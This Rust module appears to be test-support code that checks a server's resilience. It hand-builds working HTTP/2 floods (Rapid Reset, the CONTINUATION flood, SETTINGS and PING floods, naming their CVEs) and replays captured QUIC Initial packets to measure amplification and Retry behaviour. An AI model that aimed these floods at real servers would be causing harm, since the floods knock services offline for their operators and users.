//! Peers that send as much as they can and mean nothing by it: HTTP/2 frames by hand over TLS, and the
//! first datagrams of QUIC connections that never go on.

use crate::http::Wire;
use anyhow::{Context, ensure};
use link::{quic, tls};
use protocol::id::ContentHash;
use std::io::{Read, Write};
use std::net::{SocketAddr, UdpSocket};
use std::path::Path;
use std::time::Duration;

/// What begins every HTTP/2 connection, with an empty SETTINGS frame behind it.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET https://localhost/`, by HPACK's static table.
const GET: &[u8] = b"\x82\x87\x84\x41\x09localhost";
const FRAME_HEAD_BYTES: usize = 9;

/// A flood over HTTP/2.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Http2Flood {
    /// Requests that are taken back as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// Settings, each of which wants an acknowledgement.
    Settings,
    /// Pings, each of which wants an answer.
    Pings,
    /// Headers that do not end (CVE-2024-27316).
    Continuation,
}

/// How a connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum End {
    /// The server said with which code.
    GoAway(u32),
    /// It was closed.
    Closed,
    /// The server takes no more, and has not closed it.
    Stalled,
    /// The server took everything.
    Open,
}

impl Http2Flood {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::RapidReset, Self::Settings, Self::Pings, Self::Continuation];

    /// More than what waits at either end of a connection can be.
    fn frames_max(self) -> u32 {
        match self {
            Self::RapidReset | Self::Continuation => 100_000,
            Self::Settings | Self::Pings => 1_000_000,
        }
    }

    /// Sends frame after frame and reads nothing meanwhile; how the connection ended.
    ///
    /// # Errors
    /// There was no connection at all.
    pub fn send(self, address: SocketAddr, ca_pem: &Path) -> anyhow::Result<End> {
        let frames = self.frames_max();
        let mut wire = Wire::connect_tls(address, ca_pem, b"h2")?;
        wire.set_patience(Duration::from_secs(2))?;
        wire.write_all(PREFACE)?;
        if self == Self::Continuation {
            wire.write_all(&frame(HEADERS, END_STREAM, 1, GET))?;
        }
        let mut piece = Vec::new();
        for number in 0..frames {
            piece.extend_from_slice(&self.frames(number));
            if piece.len() > 16 << 10 || number + 1 == frames {
                if let Err(error) = wire.write_all(&piece) {
                    let is_stalled = matches!(
                        error.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    );
                    return Ok(if is_stalled { End::Stalled } else { end(&mut wire) });
                }
                piece.clear();
            }
        }
        Ok(end(&mut wire))
    }

    fn frames(self, number: u32) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let stream = number * 2 + 1;
                let headers = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
                [headers, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::Continuation => {
                let mut header = b"\x00\x06x-filr\x7f\x81\x06".to_vec(); // a value of 901 bytes
                header.extend_from_slice(&[b'a'; 901]);
                frame(CONTINUATION, 0, 1, &header)
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let len = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![len[1], len[2], len[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(content);
    bytes
}

/// Reads what the server said until it said that it ends, ended, or said nothing more.
fn end(wire: &mut Wire) -> End {
    loop {
        let mut head = [0; FRAME_HEAD_BYTES];
        match wire.read_exact(&mut head) {
            Ok(()) => {}
            Err(error) => {
                let is_open = matches!(
                    error.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                );
                return if is_open { End::Open } else { End::Closed };
            }
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut content = vec![0; len as usize];
        if wire.read_exact(&mut content).is_err() {
            return End::Closed;
        }
        if head[3] == GOAWAY && content.len() >= 8 {
            let code = u32::from_be_bytes([content[4], content[5], content[6], content[7]]);
            return End::GoAway(code);
        }
    }
}

/// The first datagrams of so many QUIC connections, made by a real client that gets no answer.
///
/// # Errors
/// No socket, or no datagram.
pub fn quic_initials(count: usize) -> anyhow::Result<Vec<Vec<u8>>> {
    let nowhere = UdpSocket::bind("127.0.0.1:0")?;
    nowhere.set_read_timeout(Some(Duration::from_secs(10)))?;
    let address = nowhere.local_addr()?;
    let runtime = tokio::runtime::Runtime::new()?;
    let _entered = runtime.enter();
    let mut initials = Vec::with_capacity(count);
    for _ in 0..count {
        let endpoint = quic::endpoint(address)?;
        let tls = tls::pinned_client(ContentHash::of(b"nobody"), protocol::ALPN_AGENT)?;
        let connecting = endpoint.connect_with(
            quic::client(tls, address, quic::Life::Steady)?,
            address,
            "localhost",
        )?;
        let mut datagram = vec![0; 2048];
        let bytes = nowhere.recv(&mut datagram).context("the client sent nothing")?;
        datagram.truncate(bytes);
        ensure!(datagram[0] & 0xf0 == 0xc0, "an Initial packet with a long header");
        initials.push(datagram);
        drop((connecting, endpoint)); // what it sends again is not received
        while nowhere.set_nonblocking(true).is_ok() && nowhere.recv(&mut [0; 2048]).is_ok() {}
        nowhere.set_nonblocking(false)?;
    }
    Ok(initials)
}

/// Somebody who sent one datagram from an address of its own and never says more.
pub struct Silent {
    socket: UdpSocket,
    sent_bytes: usize,
}

/// What came back to it.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CameBack {
    /// Bytes received over bytes sent.
    pub amplification: f64,
    /// Whether the server asked it to prove its address first.
    pub was_retried: bool,
}

impl Silent {
    /// Sends the datagram.
    ///
    /// # Errors
    /// No socket.
    pub fn send(to: SocketAddr, datagram: &[u8]) -> anyhow::Result<Self> {
        let socket = UdpSocket::bind("127.0.0.1:0")?;
        socket.send_to(datagram, to)?;
        Ok(Self { socket, sent_bytes: datagram.len() })
    }

    /// What came back until now.
    ///
    /// # Errors
    /// The socket broke.
    pub fn came_back(&self) -> anyhow::Result<CameBack> {
        self.socket.set_nonblocking(true)?;
        let (mut received, mut was_retried, mut datagram) = (0, false, [0; 2048]);
        while let Ok(bytes) = self.socket.recv(&mut datagram) {
            received += bytes;
            was_retried |= datagram[0] & 0xf0 == 0xf0; // RFC 9000, section 17.2.5
        }
        Ok(CameBack { amplification: received as f64 / self.sent_bytes as f64, was_retried })
    }
}
